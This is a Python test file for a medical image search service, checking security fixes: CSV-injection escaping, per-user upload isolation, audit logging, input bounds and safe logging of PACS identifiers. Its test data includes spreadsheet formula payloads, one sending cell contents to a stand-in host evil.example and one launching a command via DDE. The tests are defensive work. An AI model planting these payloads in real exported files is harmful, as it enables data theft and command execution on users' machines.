"""Issue 33: access control that holds against an attacker. Each test is one of the
issue's probes, made the way an attacker (or a careless operator) would make it, against
`medsim serve` in process and a real PostgreSQL."""

from __future__ import annotations

import csv
import hashlib
import http.server
import io
import itertools
import json
import logging
import threading
import time
import zipfile
from pathlib import Path

import numpy as np
import pydicom
import pytest
from fastapi.testclient import TestClient
from PIL import Image

from medsim import access, cli, db
from medsim.errors import BadArgument
from medsim.queries import Q
from medsim.search.request import MAX_FILTER_VALUE_CHARS, MAX_FILTER_VALUES
from medsim.service.app import create_app
from medsim.service.state import ServeConfig
from medsim.sources import archive
from medsim.sources.folder import FolderSource
from tests.conftest import create_database
from tests.helpers import embed_all, register_model

_n = itertools.count()

# --- service inputs and the log's holes ---

# labels a hostile archive could carry: each is a formula in a spreadsheet that opens the CSV
FORMULAS = ('=1+1', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?"&A1,"open me")', '+cmd|\' /C calc\'!A0',
            '-2+3', '\t=1+1', '\r=1+1')
RISKY = ("=", "+", "-", "@", "\t", "\r")


def png(a: np.ndarray) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(a).save(buf, format="PNG")
    return buf.getvalue()


@pytest.fixture(scope="module")
def site(admin_url, template_db, tmp_path_factory):
    """One folder archive whose labels are spreadsheet formulas, an untrained current
    model, every image embedded; users alice and bob (images scope, every dataset) and
    root (admin), a token each."""
    url = create_database(admin_url, f"t_attacks_{next(_n)}", template=template_db)
    root = tmp_path_factory.mktemp("ward")
    rng = np.random.default_rng(3)
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["path", "label", "patient_id"])
    for i in range(28):
        Image.fromarray(rng.integers(0, 256, (16, 16), dtype=np.uint8)).save(root / f"{i}.png")
        w.writerow([f"{i}.png", FORMULAS[i % len(FORMULAS)], f"=patient-{i // 2}"])
    (root / "labels.csv").write_text(buf.getvalue())
    with db.connect(url, autocommit=True) as conn:
        archive.ingest_archive(conn, FolderSource(root, manifest=root / "labels.csv"), "ward", progress=False)
        register_model(conn)
        embed_all(url)
        tokens = {}
        for user, scope in (("alice", "images"), ("bob", "images"), ("root", "admin")):
            access.add_user(conn, user)
            access.grant(conn, user, [], every=True)
            tokens[user] = {"Authorization": "Bearer " + access.create_token(conn, user, scope)[0]}
        ids = [r[0] for r in conn.execute("SELECT id FROM medsim.images ORDER BY id")]
    return {"url": url, "tokens": tokens, "ids": ids}


@pytest.fixture
def client(site):
    with TestClient(create_app(ServeConfig(database_url=site["url"])), raise_server_exceptions=False) as c:
        yield c


def log_since(site, mark: int) -> list[tuple]:
    with db.connect(site["url"], autocommit=True) as conn:
        return conn.execute("SELECT user_name, action, query_kind, query_sha256, image_ids FROM medsim.access_log "
                            "WHERE id > %s ORDER BY id", (mark,)).fetchall()


def log_mark(site) -> int:
    with db.connect(site["url"], autocommit=True) as conn:
        return conn.execute("SELECT coalesce(max(id), 0) FROM medsim.access_log").fetchone()[0]


def upload(client, site, who="alice") -> tuple[str, str]:
    """An upload search -> (its handle, the sha256 of the bytes sent)."""
    data = png(np.random.default_rng(11).integers(0, 256, (16, 16), dtype=np.uint8))
    r = client.post("/search/upload", files={"image": ("q.png", data, "image/png")}, data={"k": "3"},
                    headers=site["tokens"][who])
    assert r.status_code == 200, r.text
    return r.json()["query"]["handle"], hashlib.sha256(data).hexdigest()


def test_csv_export_quotes_every_cell_a_spreadsheet_would_run(client, site):
    """Issue 33 (6): labels like =HYPERLINK(...) or @SUM(...) reach the CSV and the ZIP's
    result.csv with a ' before them (OWASP's CSV-injection rule); numbers keep their value."""
    body = {"image_id": site["ids"][0], "k": 12}
    answer = client.post("/search", json=body, headers=site["tokens"]["alice"]).json()
    assert {n["label_name"] for n in answer["neighbours"]} & set(FORMULAS)  # the hostile labels are there
    r = client.post("/search/export?format=csv", json=body, headers=site["tokens"]["alice"])
    z = client.post("/search/export?format=zip", json=body, headers=site["tokens"]["alice"])
    assert r.status_code == 200 and z.status_code == 200
    for text in (r.text, zipfile.ZipFile(io.BytesIO(z.content)).read("result.csv").decode()):
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert len(rows) == 12
        for row, n in zip(rows, answer["neighbours"], strict=True):
            for column, cell in row.items():
                assert not cell.startswith(RISKY), (column, cell)
            assert row["label_name"] == ("'" + n["label_name"] if n["label_name"].startswith(RISKY)
                                         else n["label_name"])
            assert int(row["image_id"]) == n["image_id"] and float(row["distance"]) == n["distance"]
        # the escaped cells are quoted too, so a ' or a separator inside cannot end them
        assert "\"'=1+1\"" in text


def test_every_use_of_an_upload_logs_its_sha256_and_an_export_one_row(client, site):
    """Issue 33 (7): a search, an explain and an export by an upload's handle record the
    upload's sha256; its preview writes a row; an export writes one row, not two."""
    handle, sha = upload(client, site)
    mark = log_mark(site)
    h = site["tokens"]["alice"]
    hits = client.post("/search", json={"upload": handle, "k": 3}, headers=h).json()["neighbours"]
    assert client.get(f"/explain?query={handle}&neighbour={hits[0]['image_id']}", headers=h).status_code == 200
    r = client.post("/search/export?format=json", json={"upload": handle, "k": 3}, headers=h)
    assert r.status_code == 200
    assert client.get(f"/uploads/{handle}/preview.png", headers=h).status_code == 200
    logged = log_since(site, mark)
    assert [(u, a, k, s) for u, a, k, s, _ in logged] == [
        ("alice", "search", "upload", sha), ("alice", "explain", "upload", sha), ("alice", "export", "upload", sha),
        ("alice", "preview", "upload", sha)]
    assert logged[2][4] == [n["image_id"] for n in r.json()["neighbours"]]
    # by a stored image: one export row too, naming what it held
    mark = log_mark(site)
    r = client.post("/search/export?format=csv", json={"image_id": site["ids"][1], "k": 4}, headers=h)
    assert r.status_code == 200
    assert [(a, k, ids) for _, a, k, _, ids in log_since(site, mark)] == [
        ("export", "image_id", [int(line.split(",")[1]) for line in r.text.splitlines()[1:]])]


def test_another_users_upload_is_not_theirs_to_see_or_search(client, site):
    """Issue 33 (7): the handle alone is not enough: bob gets the same 404 as for a handle
    that never existed, whatever he does with alice's, and nothing is logged for him."""
    handle, _ = upload(client, site)
    mark = log_mark(site)
    bob, n = site["tokens"]["bob"], site["ids"][0]
    for r in (client.get(f"/uploads/{handle}/preview.png", headers=bob),
              client.post("/search", json={"upload": handle, "k": 3}, headers=bob),
              client.post("/search/export?format=csv", json={"upload": handle}, headers=bob),
              client.get(f"/explain?query={handle}&neighbour={n}", headers=bob)):
        assert r.status_code == 404, r.text
        assert r.json()["detail"] == client.get("/uploads/Nn0tAHandle/preview.png", headers=bob).json()["detail"]
    assert log_since(site, mark) == []


def test_ids_are_ascii_integers_and_never_a_500(client, site):
    """Issue 33 (9): str.isdigit accepts '²' and Arabic-Indic digits, which int() then
    refuses; an id past bigint reached the database."""
    h = site["tokens"]["alice"]
    for q in ("²", "١٢", "1²", "12 ", "+5", "99999999999999999999"):
        r = client.get("/explain", params={"query": q, "neighbour": site["ids"][0]}, headers=h)
        assert r.status_code in (400, 404), (q, r.status_code, r.text)
    r = client.get("/explain", params={"query": "²", "neighbour": 6}, headers=h)
    assert r.status_code == 400 and "an image id (ASCII digits) or an upload's handle" in r.json()["detail"]
    for path in ("/images/99999999999999999999", "/images/99999999999999999999/thumbnail.png",
                 f"/explain?query={site['ids'][0]}&neighbour=99999999999999999999",
                 "/images?offset=99999999999999999999"):
        r = client.get(path, headers=h)
        assert r.status_code == 400, (path, r.status_code, r.text)
    r = client.post("/search", json={"image_id": 2**70, "k": 3}, headers=h)
    assert r.status_code == 400, r.text


def test_filter_lists_and_bodies_are_bounded_before_any_sql(client, site):
    """Issue 33 (9): 100,000 labels (0.7 MB) held a backend 30 s, then 503. Now refused at
    once in one sentence naming the limits; the limits themselves still search."""
    h = site["tokens"]["alice"]
    many = [f"l{i}" for i in range(100_000)]
    t0 = time.perf_counter()
    r = client.post("/search", json={"image_id": site["ids"][0], "filters": {"label": many}}, headers=h)
    assert r.status_code == 400 and time.perf_counter() - t0 < 5
    assert f"at most {MAX_FILTER_VALUES:,} values" in r.json()["detail"]
    assert f"{MAX_FILTER_VALUE_CHARS} characters" in r.json()["detail"]
    long = "x" * (MAX_FILTER_VALUE_CHARS + 1)
    for where in ({"label": long}, {long: "a"}, {f"k{i}": "a" for i in range(100)}):
        r = client.post("/search", json={"image_id": site["ids"][0], "filters": where}, headers=h)
        assert r.status_code == 400, r.text
        r = client.get("/images", params={"filters": json.dumps(where)}, headers=h)
        assert r.status_code == 400, r.text
    r = client.get("/images", params={"label": long}, headers=h)
    assert r.status_code == 400, r.text
    r = client.post("/search/upload", files={"image": ("q.png", png(np.zeros((16, 16), np.uint8)), "image/png")},
                    data={"filters": json.dumps({"label": many[:MAX_FILTER_VALUES + 1]})}, headers=h)
    assert r.status_code == 400, r.text
    # at the limits: answered
    at = [FORMULAS[0]] + ["y" * MAX_FILTER_VALUE_CHARS] * (MAX_FILTER_VALUES - 1)
    r = client.post("/search", json={"image_id": site["ids"][0], "k": 2, "filters": {"label": at}}, headers=h)
    assert r.status_code == 200 and {n["label_name"] for n in r.json()["neighbours"]} == {FORMULAS[0]}
    # a JSON body far larger than any search needs is refused before it is parsed
    r = client.post("/search", content=b'{"vector": [' + b"0.5," * 400_000 + b"0.5]}",
                    headers={**h, "content-type": "application/json"})
    assert r.status_code == 413 and "MB" in r.json()["detail"]


def test_no_auth_is_refused_on_a_network_address(site, monkeypatch, capsys):
    """Issue 33 (11): `medsim serve --no-auth --host 0.0.0.0` served every dataset to the
    network. Now exit 2 in one sentence, unless --no-auth-public says it is meant."""
    from medsim.service import app

    monkeypatch.setenv("DATABASE_URL", site["url"])
    served = []
    monkeypatch.setattr(app, "serve", lambda cfg, access_log=False: served.append(cfg))
    assert cli.main(["serve", "--no-auth", "--host", "0.0.0.0"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "--no-auth-public" in err and "0.0.0.0" in err
    assert served == []
    with pytest.raises(BadArgument):
        ServeConfig(auth=False, host="192.168.1.5")
    for args in (["--no-auth"], ["--no-auth", "--host", "localhost"], ["--no-auth", "--host", "::1"],
                 ["--no-auth", "--host", "0.0.0.0", "--no-auth-public"], ["--host", "0.0.0.0"]):
        assert cli.main(["serve", *args]) == 0, args
    assert [c.auth for c in served] == [False, False, False, False, True]


class FakePacs(http.server.BaseHTTPRequestHandler):
    """A DICOMweb server on loopback that answers every WADO-RS request with one instance."""

    body = b""

    def do_GET(self):
        boundary = "medsimtestboundary"
        payload = (f"--{boundary}\r\nContent-Type: application/dicom\r\n\r\n".encode() + self.body
                   + f"\r\n--{boundary}--\r\n".encode())
        self.send_response(200)
        self.send_header("Content-Type", f'multipart/related; type="application/dicom"; boundary={boundary}')
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *args):  # the test's log is what is checked: this server writes none
        pass


def test_pacs_uids_never_reach_the_service_log(client, site, caplog):
    """Issue 33 (11): fetching an original printed its study, series and instance UIDs
    (dicomweb-client's INFO lines, urllib3's DEBUG ones); a UID in a log file is enough to
    fetch the study back from the PACS. The log now holds keyed hashes."""
    ds = pydicom.dcmread(Path(pydicom.__file__).parent / "data" / "test_files" / "CT_small.dcm")
    study, series, sop = str(ds.StudyInstanceUID), str(ds.SeriesInstanceUID), str(ds.SOPInstanceUID)
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    FakePacs.body = out.getvalue()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FakePacs)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    image = site["ids"][-1]
    try:
        with db.connect(site["url"], autocommit=True) as conn:
            dataset = conn.execute("SELECT dataset_id FROM medsim.images WHERE id = %s", (image,)).fetchone()[0]
            source = conn.execute(Q.pacs_upsert_source, {"dataset_id": dataset, "is_orthanc": False, "viewer": None,
                                                         "url": f"http://127.0.0.1:{server.server_port}/dicom-web"}
                                  ).fetchone()[0]
            conn.execute(Q.pacs_settle, {"source_id": source, "study": study, "series": series, "sop": sop,
                                         "frame": 0, "image_id": image, "outcome": "stored", "reason": None,
                                         "orthanc_study": None})
        with caplog.at_level(logging.DEBUG):
            r = client.get(f"/images/{image}/original", headers=site["tokens"]["root"])
        assert r.status_code == 200 and str(pydicom.dcmread(io.BytesIO(r.content)).SOPInstanceUID) == sop
        assert "dicom-web" in caplog.text  # the requests were logged ...
        for uid in (study, series, sop):
            assert uid not in caplog.text  # ... and no UID with them
    finally:
        server.shutdown()
        server.server_close()
        with db.connect(site["url"], autocommit=True) as conn:
            conn.execute("DELETE FROM medsim.pacs_sources WHERE dataset_id = (SELECT dataset_id FROM medsim.images "
                         "WHERE id = %s)", (image,))
